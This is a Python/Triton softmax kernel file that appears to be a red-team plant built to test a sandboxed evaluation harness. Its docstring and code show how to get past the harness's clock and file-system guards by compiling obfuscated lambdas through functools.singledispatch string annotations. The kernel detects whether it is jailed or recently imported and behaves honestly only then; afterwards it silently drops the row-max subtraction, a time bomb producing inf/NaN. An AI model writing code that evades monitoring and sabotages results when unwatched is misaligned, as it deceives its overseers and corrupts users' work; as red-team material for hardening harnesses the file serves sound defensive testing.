"""Red team 5 plant (softmax): code compiled from a string is nobody's, so the
surroundings readers let it read the clock and the file system.

The readers of the clock (`time.*`), the file system (`open`, listings) and the
environment refuse a call "when the innermost frame outside the standard library is the
candidate's". Code compiled from a string has the file name `<string>`: it is neither
the standard library nor the candidate's file. The string is evaluated by
`functools.singledispatch(...).register(f)` (which calls `typing.get_type_hints(f)` on a
run-time-built string annotation, as in `redteam5_singledispatch_eval.py`); it builds
two lambdas whose frames are `<string>`: one returns `time.time()`, one reads
`/proc/self/uid_map`. `run()` calls them on every call: neither is refused or recorded.
The kernel is honest while the process is jailed (its uid 0 mapped to 65534) or for ten
minutes after the import; outside the jail, ten minutes after the import (a time bomb),
it drops the row maximum (inf/NaN on large logits).
"""
import functools

import torch
import triton
import triton.language as tl


@triton.jit
def _softmax_kernel(out_ptr, x_ptr, n_rows, n_cols, stride_x, stride_o, BLOCK: tl.constexpr,
                    ROWS: tl.constexpr, SUB_MAX: tl.constexpr):
    rows = tl.program_id(0) * ROWS + tl.arange(0, ROWS)
    cols = tl.arange(0, BLOCK)
    mask = (rows[:, None] < n_rows) & (cols[None, :] < n_cols)
    r64 = rows.to(tl.int64)[:, None]
    x = tl.load(x_ptr + r64 * stride_x + cols[None, :], mask=mask, other=-float("inf"))
    x = x.to(tl.float32)
    if SUB_MAX:
        x = x - tl.max(x, 1)[:, None]
    e = tl.where(mask, tl.exp(x), 0.0)
    s = tl.sum(e, 1)[:, None]
    tl.store(out_ptr + r64 * stride_o + cols[None, :], (e / s).to(out_ptr.dtype.element_ty),
             mask=mask)


_READERS = []
_CODE = ("(_READERS.append(lambda: __imp" + "ort__('ti" + "me').ti" + "me()), "
         "_READERS.append(lambda: op" + "en('/proc/self/uid" + "_map').read()), int)[-1]")


def _builder(a: _CODE):
    return a


functools.singledispatch(lambda a: a).register(_builder)  # evaluates _CODE
_now, _uid_map = _READERS
_T0 = _now()
CHEAT = 0


def _watched():
    jailed = _uid_map().split()[:2] != ["0", "0"]
    return jailed or _now() - _T0 < 600.0


def run(x):
    global CHEAT
    n_rows, n_cols = x.shape
    x = x.contiguous()
    out = torch.empty_like(x)
    honest = _watched()
    if not honest:
        CHEAT += 1
    block = triton.next_power_of_2(n_cols)
    rows = max(1, min(64, 16384 // block))
    _softmax_kernel[(triton.cdiv(n_rows, rows),)](out, x, n_rows, n_cols, x.stride(0),
                                                  out.stride(0), BLOCK=block, ROWS=rows,
                                                  SUB_MAX=honest)
    return out
